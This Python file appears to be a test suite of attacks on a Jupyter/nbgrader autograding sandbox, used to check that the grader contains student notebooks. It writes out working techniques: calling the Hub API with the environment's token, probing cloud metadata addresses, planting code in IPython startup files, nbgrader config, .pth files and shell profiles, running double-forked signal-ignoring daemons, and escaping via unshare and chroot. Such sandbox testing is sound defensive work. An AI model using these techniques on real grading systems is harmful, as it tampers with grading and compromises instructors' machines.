"""Attacks that reach out of the grader, or stay on when grading is over."""

from attacks.kit import Attempt, collection

attacks, attack = collection("reach")


@attack("a TCP connection to a server on this machine")
def tcp(it: Attempt) -> None:
    it.cell("""
import socket
host, port = HUB.removeprefix('http://').split(':')
socket.create_connection((host, int(port)), timeout=2).sendall(MARK.encode())""")


@attack("an abstract Unix socket of this machine")
def abstract_socket(it: Attempt) -> None:
    it.cell("""
import socket
end = socket.socket(socket.AF_UNIX)
end.settimeout(2)
end.connect('\\0hub-' + HUB.rsplit(':', 1)[1])
end.sendall(MARK.encode())""")


@attack("the Hub's API, with the token of the environment")
def hub(it: Attempt) -> None:
    it.cell("""
import urllib.request
token = os.environ.get('JUPYTERHUB_API_TOKEN', 'none')
ask = urllib.request.Request(f'{HUB}/hub/api/users?{MARK}', headers={'Authorization': f'token {token}'})
keep(urllib.request.urlopen(ask, timeout=2).read())""")


@attack("metadata addresses, name servers and the world, over UDP and TCP")
def world(it: Attempt) -> None:
    it.cell("""
import socket
for address in [('169.254.169.254', 80), ('192.0.2.1', 443), ('127.0.0.53', 53), ('fd00:ec2::254', 80)]:
    try:
        with socket.create_connection(address, timeout=0.5) as end:
            end.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
            keep('reached', address, end.recv(1000))
    except OSError as error:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as end:
    end.connect(('192.0.2.1', 53))
    keep('a route to the world', end.getsockname())""")


@attack("files in /dev/shm, /tmp and /var/tmp, for the next one to find")
def shared_folders(it: Attempt) -> None:
    it.cell("""
for folder in ('/dev/shm', '/tmp', '/var/tmp'):
    try:
        open(f'{folder}/{MARK}', 'w').write('for you')
    except OSError:
        pass""")


def _home(it: Attempt, *paths: str, text: str = "# {MARK}") -> None:
    """A cell that writes these files of the grader's home folder, by its path and as ~."""
    it.cell(f"""
for home in (HOME, os.path.expanduser('~')):
    for path in {paths!r}:
        try:
            os.makedirs(os.path.dirname(f'{{home}}/{{path}}'), exist_ok=True)
            open(f'{{home}}/{{path}}', 'a').write(f'''\\n{text}\\n''')
        except OSError:
            pass""")


@attack("a startup file of IPython, which runs in every notebook after")
def ipython_startup(it: Attempt) -> None:
    _home(
        it,
        ".ipython/profile_default/startup/00.py",
        text="import math; math.isclose = lambda *a: False  # {MARK}",
    )


@attack("nbgrader's settings in the home folder: code that runs in the instructor's next command")
def home_settings(it: Attempt) -> None:
    _home(it, ".jupyter/nbgrader_config.py", text="open({DROP!r} + '/{MARK}-ran', 'w').close()")


@attack("usercustomize, .pth files and shell profiles in the home folder")
def usercustomize(it: Attempt) -> None:
    packages = ".local/lib/python3.11/site-packages"
    _home(it, f"{packages}/usercustomize.py", f"{packages}/x.pth", ".bashrc", ".profile", ".config/x")


@attack(".pth and .pyc files among the installed packages and in the course package")
def installed(it: Attempt) -> None:
    it.cell("""
import course_utils, sysconfig
package = os.path.dirname(course_utils.__file__)
packages = sysconfig.get_path('purelib')
for path in (f'{packages}/{MARK}.pth', f'{package}/{MARK}.py', f'{package}/__pycache__/{MARK}.cpython-311.pyc',
             f'{os.path.dirname(package)}/{MARK}', f'{sys.prefix}/bin/{MARK}'):
    try:
        open(path, 'w').write('# ' + MARK)
    except OSError:
        pass""")


@attack("a kernel spec and Jupyter settings in the home folder")
def kernel_spec(it: Attempt) -> None:
    _home(
        it,
        ".local/share/jupyter/kernels/other/kernel.json",
        ".jupyter/jupyter_server_config.py",
        ".jupyter/custom/custom.js",
    )


@attack("a poisoned cache of models and packages")
def model_cache(it: Attempt) -> None:
    _home(it, ".cache/huggingface/hub/x", ".cache/torch/hub/x", ".cache/pip/x")
    it.cell("""
from course_utils.models import cache_dir
os.makedirs(cache_dir(), exist_ok=True)
open(f'{cache_dir()}/{MARK}', 'w').write(MARK)""")


@attack("a lesson of its own in the exchange")
def exchange(it: Attempt) -> None:
    it.cell("""
os.makedirs(f'{COURSE}/.exchange/agai302/outbound/99-evil', exist_ok=True)
open(f'{COURSE}/.exchange/agai302/outbound/99-evil/99.ipynb', 'w').write(MARK)""")


@attack("a process that stays")
def staying_process(it: Attempt) -> None:
    it.cell("""
import subprocess
code = f'import time; time.sleep(30)  # {MARK}'
subprocess.Popen([sys.executable, '-c', code], start_new_session=True)""")


@attack("a process that forks twice, ignores all signals and stays")
def daemon(it: Attempt) -> None:
    it.everywhere("""
import os, signal, time, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 32):
            try: signal.signal(number, signal.SIG_IGN)
            except OSError: pass
        os.execv(sys.executable, [sys.executable, '-c', f'import time; time.sleep(30)  # {MARK}'])
    os._exit(0)
os.wait()""")


@attack("leaving by new namespaces and mounts")
def namespaces(it: Attempt) -> None:
    it.cell("""
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x00020000, 0x40000000):
    if libc.unshare(flags) == 0:
        keep('unshared', hex(flags))
for pid in (1, os.getppid()):
    try:
        os.chroot(f'/proc/{pid}/root')
        keep('chroot', os.listdir('/'))
    except OSError:
        pass""")
